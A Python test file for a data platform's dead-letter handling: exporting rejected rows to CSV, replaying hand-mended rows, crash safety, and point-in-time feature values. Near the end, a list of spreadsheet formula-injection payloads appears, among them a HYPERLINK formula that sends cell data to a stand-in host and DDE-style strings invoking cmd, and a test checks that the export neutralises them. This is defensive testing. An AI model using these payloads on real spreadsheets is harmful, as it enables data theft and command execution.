"""Rows are mended by hand: they take their place by their own event time, and are known from the replay on."""

from __future__ import annotations

import csv
from dataclasses import replace
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import narwhals as nw
import pyarrow as pa
import pytest

from loopline.platform_core.contracts.engine import ViewRows
from loopline.platform_core.contracts.event_stream import Record
from loopline.platform_core.errors import ContractBroken, NotFound
from loopline.platform_core.features.materialization.materialize import materialize
from loopline.platform_core.foundation.names import view_table
from loopline.platform_core.ingestion.landing import land
from loopline.platform_core.ingestion.letters.dead_letters import Replayed, dead_letters, replay
from loopline.platform_core.ingestion.letters.mended_rows import exported, read, write
from loopline.platform_core.specs import FeatureView, Labels, Model, Source, Team
from loopline.platform_core.specs.contracts.odcs import read_contract
from loopline.platform_core.testing.fakes.event_stream import InMemoryEventStream
from loopline.platform_core.testing.fakes.lake import InMemoryLake
from loopline.platform_core.testing.fakes.online_store import InMemoryOnlineStore
from loopline.platform_core.training import training_set
from tests.platform_core.ingestion.conftest import DyingLake, Killed

ORDERS = Source("orders", "orders.yaml")


def spent(rows: nw.LazyFrame[Any]) -> nw.LazyFrame[Any]:
    """Per customer and order: spent so far."""
    ordered = rows.sort("at").with_columns(spent=nw.col("price").cum_sum().over("customer", order_by="at"))
    return ordered.select("customer", "at", "spent")


def kept(rows: nw.LazyFrame[Any]) -> nw.LazyFrame[Any]:
    """Per order: kept two days after it."""
    return rows.select("customer", nw.col("at").dt.offset_by("2d"), kept=nw.lit(1.0))


VIEW = FeatureView("spent", ORDERS, "customer", "at", spent)
MODEL = Model("stays", (VIEW,), Labels("kept", ORDERS, ("customer",), "at", "kept", "at", kept), lambda *_: None)


def out(shop: Any, file: Path) -> dict[int, dict[str, Any]]:
    """Write the open letters to a file; gives its rows by line of the arrival."""
    letters = dead_letters(*shop.args, limit=None)
    write(exported(letters, read_contract(shop.folder / "orders.yaml")), file)
    lines = dict(zip(letters["letter_id"].to_pylist(), letters["line"].to_pylist(), strict=True))
    return {lines[row["letter_id"]]: row for row in read(file).to_pylist()}


def test_letters_go_out_and_come_back_as_they_were(shop: Any, tmp_path: Path) -> None:
    """Every field is there, also those that the contract does not name; null and empty text are told apart."""
    shop.deliver("monday", '7,"0","a, b"', '8,"",', header="Customer,Price,Colour\n")
    shop.contract(without=("at",))
    land(*shop.args)
    rows = out(shop, tmp_path / "letters.csv")
    assert (rows[2]["reasons"], rows[2]["Colour"], rows[2]["Price"]) == ("price.minimum", "a, b", "0")
    assert (rows[3]["Price"], rows[3]["Colour"]) == (None, None)
    table = pa.table({"letter_id": ["x", "y"], "text": pa.array(["", None])})
    write(table, tmp_path / "empty.csv")
    assert read(tmp_path / "empty.csv").equals(table)


def test_mended_rows_land_and_their_letters_close(shop: Any) -> None:
    """Only fields that are given change; what is still wrong stays open, and says why it is now."""
    shop.deliver("monday", "7,0.5,2020-01-01T10:00:00Z", "x,2,2020-01-02T10:00:00Z", "9,0,", "1,2,3,4")
    land(*shop.args)
    ids = {letter["line"]: letter["letter_id"] for letter in dead_letters(*shop.args).to_pylist()}
    rows = pa.table({"letter_id": [ids[2], ids[4]], "Price": ["1.5", "nine"]})
    done = replay(*shop.args, rows, "alice")
    assert done == Replayed(1, 1)
    assert done.reasons == {ids[4]: ("price.parsable",)}
    [row] = shop.rows()
    assert (row["customer"], row["price"], row["_line"], row["_date"]) == (7, 1.5, 2, date(2020, 1, 1))
    assert row["_arrived_at"] == shop.platform.clock.now()
    assert [letter["line"] for letter in dead_letters(*shop.args).to_pylist()] == [3, 4, 5]
    [entry] = shop.entries("dead_letters.replayed")
    assert (entry.details["mended"], entry.details["by"]) == (1, "alice")


def test_a_row_that_was_no_row_is_mended_by_giving_its_fields(shop: Any, tmp_path: Path) -> None:
    """Its text is shown; left as it is, it stays what it was."""
    shop.deliver("monday", "7,1,2020-01-01T10:00:00Z,extra")
    land(*shop.args)
    row = out(shop, tmp_path / "letters.csv")[2]
    assert row["_malformed"] == "7,1,2020-01-01T10:00:00Z,extra"
    assert replay(*shop.args, read(tmp_path / "letters.csv")).reasons == {row["letter_id"]: ("row.malformed",)}
    fields = {**row, "Customer": "7", "Price": "1", "At": "2020-01-01T10:00:00Z"}
    assert replay(*shop.args, pa.Table.from_pylist([fields])) == Replayed(1, 0)


def test_parts_of_an_export_have_the_same_columns(shop: Any) -> None:
    """Written by parts, all have every field; a file with ``_malformed`` is taken once no such letter is open."""
    shop.deliver("monday", "7,1,2020-01-01T10:00:00Z,extra", "7,0.5,")
    land(*shop.args)
    letters = dead_letters(*shop.args, limit=None)
    contract = read_contract(shop.folder / "orders.yaml")
    parts = [exported(letters.slice(n, 1), contract, ["Colour", "_malformed", "reasons"]) for n in (0, 1)]
    columns = ["letter_id", "reasons", "Customer", "Price", "At", "Colour", "_malformed"]
    assert [part.column_names for part in parts] == [columns, columns]
    both = pa.concat_tables(parts).drop_columns("Colour").to_pylist()
    [torn] = [row for row in both if row["_malformed"]]
    [low] = [row for row in both if not row["_malformed"]]
    assert replay(*shop.args, pa.Table.from_pylist([{**torn, "Customer": "7", "Price": "1"}])) == Replayed(1, 0)
    assert replay(*shop.args, pa.Table.from_pylist([{**low, "Price": "3"}])) == Replayed(1, 0)


def test_a_record_of_a_stream_is_mended_as_a_row_of_a_file(shop: Any, tmp_path: Path) -> None:
    """Its letter holds the record's own fields, those that only look like ours as well."""
    stream = InMemoryEventStream()
    shop.platform.environment.bindings["event_stream"] = stream
    shop.source = replace(ORDERS, arrives="stream")
    dead = b'{"Customer": 7, "Price": 0.5, "At": "2020-01-01T10:00:00Z", "letter_id": "mine"}'
    stream.publish("shop/orders", [Record(dead), Record(dead.replace(b"0.5", b"2")), Record(b"no object")])
    land(*shop.args)
    rows = out(shop, tmp_path / "letters.csv")
    [row] = [row for row in rows.values() if row["Price"] == "0.5"]
    assert row["letter_id"] != "mine"
    assert replay(*shop.args, pa.Table.from_pylist([{**row, "Price": "1"}])) == Replayed(1, 0)
    assert shop.prices() == [1, 2]


def test_what_is_not_there_is_named_and_nothing_lands(shop: Any, tmp_path: Path) -> None:
    """Unknown, closed and repeated letters, unknown and repeated columns, no letters at all, no CSV."""
    shop.deliver("monday", "7,0.5,", "7,0.6,")
    land(*shop.args)
    one, other = dead_letters(*shop.args)["letter_id"].to_pylist()
    replay(*shop.args, pa.table({"letter_id": [other], "Price": ["1"]}))
    good = pa.array(["2"])
    for rows, kind, said in (
        (pa.table({"letter_id": [one, "nobody"], "Price": ["1", "2"]}), NotFound, "'nobody'"),
        (pa.table({"letter_id": [other], "Price": good}), NotFound, other),
        (pa.table({"letter_id": [one], "Prize": good}), NotFound, "'Prize'"),
        (pa.table({"letter_id": [one, one], "Price": ["1", "2"]}), ContractBroken, "twice"),
        (pa.table([pa.array([one]), good, good], names=["letter_id", "Price", "Price"]), ContractBroken, "'Price'"),
        (pa.table({"Price": good}), ContractBroken, "letter_id"),
    ):
        with pytest.raises(kind, match=said):
            replay(*shop.args, rows)
    (tmp_path / "image.csv").write_bytes(b"\xff\xfe\x00")
    with pytest.raises(ContractBroken, match=r"image\.csv"):
        read(tmp_path / "image.csv")
    assert shop.prices() == [1]


def test_a_killed_replay_doubles_nothing_though_the_event_was_moved(shop: Any) -> None:
    """The row is found on the day to which it was mended; the next replay, of any kind, closes its letter."""
    name = str(shop.folder)
    shop.on(InMemoryLake(name=name)).deliver("monday", "7,0.5,2020-01-01T10:00:00Z")
    land(*shop.args)
    [letter] = dead_letters(*shop.args)["letter_id"].to_pylist()
    rows = pa.table({"letter_id": [letter], "Price": ["3"], "At": ["2019-06-01T00:00:00Z"]})
    with pytest.raises(Killed):  # once the rows are there, before the letters are closed
        replay(*shop.on(DyingLake(name=name, end=".resolved")).args, rows)
    shop.on(InMemoryLake(name=name))
    assert replay(*shop.args) == Replayed(1, 0)
    assert (shop.prices(), len(dead_letters(*shop.args))) == ([3], 0)


def test_the_whole_way(shop: Any) -> None:
    """A rule is mended, then a row: neither is known before its replay, both stand at their own time after it."""
    team = Team("shop", shop.folder, models=(MODEL,))
    shop.platform.environment.bindings["online_store"] = InMemoryOnlineStore()
    shop.deliver("monday", "7,2,2020-01-01T10:00:00Z", "7,0.5,2020-01-01T11:00:00Z", "7,x,2020-01-01T12:00:00Z")
    shop.deliver("tuesday", "7,4,2020-01-02T10:00:00Z", hours=11)
    later(shop, hours=24 * 7)
    land(*shop.args)
    materialize(shop.platform, team, VIEW)
    before = later(shop)
    trained = training_set.build(shop.platform, team, MODEL, before)
    assert trained.rows == 2

    shop.contract("1.1.0", low=0)
    assert replay(*shop.args) == Replayed(1, 1)
    materialize(shop.platform, team, VIEW)
    between = later(shop)

    letter = dead_letters(*shop.args)["letter_id"]
    assert replay(*shop.args, pa.table({"letter_id": letter, "Price": ["1"]})) == Replayed(1, 0)
    materialize(shop.platform, team, VIEW)
    after = later(shop)

    assert [row["price"] for row in sorted(shop.rows(), key=lambda row: row["at"])] == [2, 0.5, 1, 4]
    assert {row["_date"] for row in shop.rows() if row["price"] < 2} == {date(2020, 1, 1)}
    assert [spent_as_of(shop, team, at) for at in (before, between, after)] == [6, 6.5, 7.5]
    assert training_set.build(shop.platform, team, MODEL, before).row_hash == trained.row_hash
    now = training_set.build(shop.platform, team, MODEL, after)
    assert now.rows == 4
    served = training_set.rows(shop.platform, team, MODEL, now)["spent"].to_pylist()
    assert served == [6] * 4, "what nobody could have been served then is in no row of then"


def later(shop: Any, hours: float = 2) -> datetime:
    """Move the clock; gives the instant half-way."""
    clock = shop.platform.clock
    now = clock.now()
    clock.set(now + timedelta(hours=hours))
    return now + timedelta(hours=hours / 2)


def spent_as_of(shop: Any, team: Team, instant: datetime) -> float:
    """Return the customer's newest feature as an instant would have had it."""
    asked = pa.table({"customer": [7], "event_time": pa.array([instant], pa.timestamp("us", "UTC"))})
    rows = ViewRows(VIEW, shop.platform.lake.read(view_table(team.name, VIEW)).drop_columns("_date"))
    found: float = shop.platform.engine.point_in_time(asked, [rows])["spent"][0].as_py()
    return found


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3",
    "\tx",
    "'=1",
    "''-x",
]
PLAIN = ["-1.5", "+7", "a=b", "'s-Hertogenbosch", "", "it's"]


@pytest.mark.parametrize("text", [*FORMULAS, *PLAIN])
def test_a_spreadsheet_gets_no_formula(shop: Any, tmp_path: Path, text: str) -> None:
    """Whoever may send a row, or name a field, must not run something where it is mended; and all comes back."""
    quoted = text.replace('"', '""')
    shop.deliver("monday", f'"{quoted}",0', header='"=cmd",Price\n')
    shop.contract(without=("customer", "at"))
    land(*shop.args)
    [row] = out(shop, tmp_path / "letters.csv").values()
    assert row["=cmd"] == (text or None)
    written = next(csv.DictReader((tmp_path / "letters.csv").open(newline="")))
    assert "'=cmd" in written
    assert (written["'=cmd"] == f"'{text}") == (text in FORMULAS)
    assert replay(*shop.args, read(tmp_path / "letters.csv")).still_dead == 1
